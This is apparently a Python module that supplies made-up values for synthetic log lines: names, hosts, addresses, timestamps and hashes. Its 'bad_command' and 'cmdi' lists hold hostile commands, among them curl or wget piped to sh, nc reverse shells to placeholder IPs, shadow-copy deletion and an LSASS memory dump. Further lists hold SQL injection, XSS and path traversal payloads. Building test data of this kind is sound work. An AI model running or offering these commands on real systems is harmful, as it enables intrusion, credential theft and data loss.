"""What stands in the slots of training lines: made-up names, numbers and addresses of the kinds that logs hold.

Public addresses are of the documentation ranges and of networks that no example of ours names; names are invented.
"""

from __future__ import annotations

import base64
import random
from collections.abc import Callable, Mapping, Sequence
from datetime import UTC, datetime, timedelta
from typing import Final

Draw = random.Random

_NAMES: Final[Mapping[str, str | tuple[str, ...]]] = {
    "user": "alice bob carol dmitri erin farid grace hiro ines jonas "
    "kemal lena mateo nadia olga priya quinn rosa sven "
    "tariq uma viktor wei yara zoe j.smith m.keller a.okafor l.moreau dba1 student17",
    "admin": "root admin administrator sysadm opsadmin netadmin adm-keller domainadmin s.admin",
    "service_account": "svc-backup svc_deploy jenkins ansible prometheus "
    "www-data postgres svc-sql$ gitlab-runner nagios "
    "veeamsvc app-worker",
    "host": "web01 web-02 db3 app-prod-7 gw1 mail fileserver2 build04 core-sw1 dc01 ws-114 k8s-node-5 edge9 vpn1",
    "domain": "example.com corp.example.net internal.example.org shop.example acme.example lab.example",
    "bad_domain": "update-check.example-cdn.top login-verify.example.xyz "
    "c2.badhost.example paste.evil.example free-gift.example.ru",
    "process": "nginx java python3 node postgres mysqld sshd "
    "dockerd kubelet rsyslogd chronyd php-fpm svchost.exe explorer.exe",
    "unit": "nginx.service docker.service postgresql.service backup.timer cron.service chronyd.service app.service",
    "disk": "sda sdb1 nvme0n1 nvme1n1p2 vdb dm-3 sdc",
    "nic": "eth0 eth1 ens192 bond0 wlan0 enp3s0f1 veth1a2b",
    "exe": "setup.exe updater.exe chrome.exe winword.exe teams.exe powershell.exe rundll32.exe agent.exe",
    "file": "report-q3.xlsx invoice.pdf backup.tar.gz main.py notes.txt config.yaml photo.jpg dump.sql release.zip",
    "path": "/srv/data/reports/q3.csv /home/alice/projects/app "
    "/opt/app/bin/server /var/lib/app/state.db /usr/bin/rsync",
    "log_path": "/var/log/app/app.log /var/log/syslog /var/log/nginx/access.log /var/log/audit/audit.log",
    "config_path": "/etc/nginx/nginx.conf /etc/ssh/sshd_config /etc/app/app.yaml /etc/fstab /etc/my.cnf",
    "tmp_path": "/tmp/.x1 /tmp/build-8812 /dev/shm/.cache /var/tmp/upload_77 /tmp/session.lock",
    "windows_path": (
        "C:\\Users\\alice\\Documents\\plan.docx",
        "C:\\Program Files\\App\\app.exe",
        "C:\\Windows\\System32\\drivers\\etc\\hosts",
        "D:\\Shares\\Finance\\budget.xlsx",
        "C:\\ProgramData\\Agent\\agent.log",
    ),
    "url_path": "/ /index.html /api/v1/orders /login "
    "/static/app.js /images/logo.png /healthz /cart/checkout /api/v2/users/42",
    "query": "page=2&size=20 q=shoes lang=en&sort=price id=1042 token=ok ref=newsletter",
    "user_agent": (
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/126.0 Safari/537.36",
        "curl/8.5.0",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) Safari/604.1",
        "kube-probe/1.29",
        "Prometheus/2.51.0",
        "okhttp/4.12.0",
    ),
    "scanner_agent": (
        "sqlmap/1.8.2#stable (https://sqlmap.example)",
        "Nikto/2.5.0",
        "masscan/1.3",
        "Mozilla/5.0 (compatible; Nmap Scripting Engine)",
        "WPScan v3.8",
        "gobuster/3.6",
        "Mozilla/5.0 zgrab/0.x",
        "Nuclei - Open-source project",
    ),
    "command": (
        "ls -la /srv",
        "systemctl status nginx",
        "df -h",
        "git pull",
        "apt-get update",
        "tail -n 50 app.log",
        "uptime",
    ),
    "bad_command": (
        "curl http://198.51.100.23/x.sh | bash",
        "nc -e /bin/sh 203.0.113.66 4444",
        "base64 -d /tmp/p | sh",
        "powershell -nop -w hidden -enc SQBFAFgA",
        "vssadmin delete shadows /all /quiet",
        "chmod 777 /etc/shadow",
        "wget -q -O- http://evil.example/m | sh",
        "rundll32 comsvcs.dll MiniDump 640 l.dmp full",
    ),
    "db": "orders billing inventory users_prod analytics crm wiki",
    "table": "public.orders customers invoice_lines sessions audit_events products",
    "queue": "orders.in mail-out billing.retry events.dlq",
    "topic": "orders payments.v1 clickstream audit-events",
    "bucket": "acme-logs acme-backups-prod website-assets data-lake-raw",
    "pod": "api-7d9f8b6c5-x2x7k worker-0 checkout-5f6d-abcde coredns-565d847f94-4pn2q redis-master-0",
    "namespace": "default kube-system payments monitoring staging",
    "node": "node-3 ip-10-2-3-4.internal worker-b gpu-node-1 c0-2c1s4n2",
    "image": "registry.example/app/api:1.14.2 nginx:1.27 postgres:16 registry.example/team/worker@sha256:0f1e",
    "region": "eu-central-1 us-east-1 westeurope europe-west3 ap-southeast-2",
    "policy": "AdministratorAccess ReadOnlyAccess baseline-endpoint allow-outbound-web Default-Deny mfa-required",
    "role": "Admin Viewer ops-oncall storage.objectViewer db_owner Reader cluster-admin",
    "group": ("Domain Admins", "wheel", "Finance", "helpdesk", "developers", "Remote Desktop Users"),
    "malware": "Trojan.GenericKD.4711 Win32/Emotet.AB Ransom:Win32/Lock.C EICAR-Test-File Backdoor.Linux.Mirai.b "
    "PUA.Toolbar.Ask HackTool:Win32/Mimikatz",
    "thread": "main http-nio-8080-exec-3 pool-2-thread-1 worker-7 scheduler-1 Thread-12",
    "class": "com.example.orders.OrderService org.example.auth.ErrorHandler "
    "c.e.billing.InvoiceJob o.s.web.servlet.DispatcherServlet "
    "com.example.search.FailureDetector",
    "sqli": (
        "' OR '1'='1",
        "1 UNION SELECT username,password FROM users--",
        "1;DROP TABLE users",
        "%27%20OR%201%3D1--",
        "1 AND SLEEP(5)",
        "admin'--",
    ),
    "xss": (
        "<script>alert(1)</script>",
        "%3Cscript%3Edocument.cookie%3C/script%3E",
        "<img src=x onerror=alert(1)>",
        "javascript:alert(document.domain)",
    ),
    "traversal": (
        "../../../../etc/passwd",
        "..%2f..%2f..%2fetc%2fshadow",
        "....//....//boot.ini",
        "/cgi-bin/.%2e/.%2e/bin/sh",
    ),
    "cmdi": (
        ";cat /etc/passwd",
        "|id",
        ";wget http://198.51.100.9/a.sh -O-|sh",
        "&&whoami",
        "`id`",
        "$(curl evil.example)",
        "||nc 203.0.113.9 9001 -e /bin/sh",
    ),
    "http_ok": "200 201 204 301 302 304",
    "http_4xx": "400 401 403 404 405 429",
    "http_5xx": "500 502 503 504",
    "service_port": "22 25 53 80 110 143 389 443 445 993 1433 3306 3389 5432 6379 8080 8443 9200",
}
_MONTHS = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"]


def values(name: str) -> Sequence[str]:
    """The fixed values of a slot."""
    some = _NAMES[name]
    return some.split() if isinstance(some, str) else some


def _hex(draw: Draw, digits: int) -> str:
    return f"{draw.getrandbits(4 * digits):0{digits}x}"


def _uuid(draw: Draw) -> str:
    return "-".join(_hex(draw, digits) for digits in (8, 4, 4, 4, 12))


def _moment(draw: Draw) -> datetime:
    return datetime(2025, 1, 1, tzinfo=UTC) + timedelta(
        seconds=draw.randrange(2 * 365 * 86_400), microseconds=draw.randrange(10**6)
    )


def _iso(draw: Draw) -> str:
    at = _moment(draw)
    return draw.choice(
        [
            f"{at:%Y-%m-%dT%H:%M:%SZ}",
            f"{at:%Y-%m-%dT%H:%M:%S}.{at.microsecond // 1000:03}Z",
            f"{at:%Y-%m-%dT%H:%M:%S}+01:00",
        ]
    )


def _syslog(draw: Draw) -> str:
    at = _moment(draw)
    return f"{_MONTHS[at.month - 1]} {at.day:2} {at:%H:%M:%S}"


def _time(draw: Draw) -> str:
    at = _moment(draw)
    forms = [
        f"{at:%Y-%m-%d %H:%M:%S},{at.microsecond // 1000:03}",
        f"{at:%Y-%m-%d %H:%M:%S}",
        f"{at:%Y/%m/%d %H:%M:%S}",
    ]
    return draw.choice([_iso(draw), _syslog(draw), _syslog(draw), *forms])


def _public(draw: Draw) -> str:
    return draw.choice(["203.0.113.", "198.51.100.", "192.0.2.", "45.83.64.", "185.220.9."]) + str(
        draw.randrange(1, 255)
    )


def _private(draw: Draw) -> str:
    return draw.choice(["10.{}.{}.{}", "192.168.{1}.{2}", "172.20.{1}.{2}"]).format(
        *(draw.randrange(1, 255) for _ in range(3))
    )


def _base64(draw: Draw) -> str:
    return base64.b64encode(draw.randbytes(32)).decode().rstrip("=")


MADE: Final[Mapping[str, Callable[[Draw], str]]] = {
    "fqdn": lambda d: f"{d.choice(values('host'))}.{d.choice(values('domain'))}",
    "ip": lambda d: d.choice((_public, _private))(d),
    "public_ip": _public,
    "private_ip": _private,
    "ip6": lambda d: f"2001:db8:{_hex(d, 2)}::{_hex(d, 3)}",
    "mac": lambda d: ":".join(_hex(d, 2) for _ in range(6)),
    "port": lambda d: str(d.randrange(32_768, 61_000)),
    "pid": lambda d: str(d.randrange(300, 99_999)),
    "tid": lambda d: str(d.randrange(10, 9_999)),
    "n": lambda d: str(d.randrange(2, 9_999)),
    "small": lambda d: str(d.randrange(2, 20)),
    "big": lambda d: str(d.randrange(10**5, 10**9)),
    "zero": lambda _: "0",
    "percent": lambda d: str(d.randrange(1, 100)),
    "float": lambda d: f"{d.uniform(0.1, 99):.2f}",
    "ms": lambda d: str(d.randrange(1, 900)),
    "seconds": lambda d: str(d.randrange(1, 600)),
    "bytes": lambda d: str(d.randrange(64, 10**7)),
    "time": _time,
    "iso": _iso,
    "syslog_time": _syslog,
    "epoch": lambda d: str(int(_moment(d).timestamp())),
    "date": lambda d: f"{_moment(d):%Y-%m-%d}",
    "url": lambda d: f"https://{d.choice(values('domain'))}{d.choice(values('url_path'))}",
    "email": lambda d: f"{d.choice(values('user'))}@{d.choice(values('domain'))}",
    "hex": lambda d: _hex(d, d.choice([4, 8, 12])),
    "hex8": lambda d: _hex(d, 8),
    "uuid": _uuid,
    "sha256": lambda d: _hex(d, 64),
    "md5": lambda d: _hex(d, 32),
    "b64": _base64,
    "id": lambda d: d.choice([_hex(d, 12), _uuid(d), str(d.randrange(10**5, 10**8))]),
    "session": lambda d: d.choice([_hex(d, 8), str(d.randrange(1, 99_999))]),
    "container": lambda d: _hex(d, 12),
    "arn": lambda d: f"arn:aws:iam::{d.randrange(10**11, 10**12)}:user/{d.choice(values('user'))}",
    "version": lambda d: f"{d.randrange(1, 20)}.{d.randrange(30)}.{d.randrange(30)}",
    "cve": lambda d: f"CVE-{d.randrange(2019, 2027)}-{d.randrange(1000, 49_999)}",
    "sid": lambda d: (
        "S-1-5-21-" + "-".join(str(d.randrange(10**8, 10**9)) for _ in range(3)) + f"-{d.randrange(1000, 9999)}"
    ),
}
"""Slots that are made anew each time."""

KNOWN: Final = frozenset(MADE) | frozenset(_NAMES)


def fill(name: str, draw: Draw) -> str:
    """A value for a slot that `KNOWN` has."""
    return MADE[name](draw) if name in MADE else draw.choice(values(name))
